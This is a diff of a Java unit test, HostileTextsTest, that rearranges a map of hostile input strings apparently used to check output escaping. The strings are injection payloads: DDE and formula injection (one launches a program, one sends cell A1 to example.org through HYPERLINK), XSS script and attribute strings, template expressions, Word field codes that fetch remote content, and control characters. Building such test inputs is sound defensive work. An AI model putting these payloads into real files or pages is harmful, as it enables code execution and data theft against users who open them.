@@ -35,18 +35,18 @@ class HostileTextsTest {
         texts.put("formula", "=1+1");
         texts.put("hyperlink", "=HYPERLINK(\"http://example.org/?\"&A1,\"clic\")");
         texts.put("dde", "=cmd|'/C calc'!A0");
-        texts.put("plus", "+1-1");
         texts.put("minus", "-1+1");
+        texts.put("plus", "+1-1\n@SUM(1;1)");
         texts.put("at", "@SUM(1;1)");
         texts.put("tab", "\t=1+1");
         texts.put("return", "\r=1+1");
         texts.put("line", "uno\n=1+1");
         texts.put("full width", "＝1+1");
         texts.put("separators", "a,\"b\";\tc\r\n=1+1");
-        texts.put("script", "</script><script>alert(1)</script><!-- ]]> -->");
-        texts.put("attribute", "\" onmouseover=\"alert(1)' x='");
+        texts.put(
+                "markup",
+                "</script><script>alert(1)</script><!-- ]]> --> \" onmouseover=\"alert(1)' x=' ${7*7} #{7*7} @if(true)x@endif");
         texts.put("link", "[clic](http://example.org) {0} javascript:alert(1)");
-        texts.put("template", "${7*7} #{7*7} @if(true)x@endif");
         texts.put("field", "{ INCLUDEPICTURE \"http://example.org/x\" \\d } { DDEAUTO c:\\\\x \"y\" }");
         texts.put("escape", "a_x0041_b &amp; %41 \\u0041");
         texts.put("controls", "a\u0000b\u0007c\u001b[31md\u0085\u202ee\ufffef");
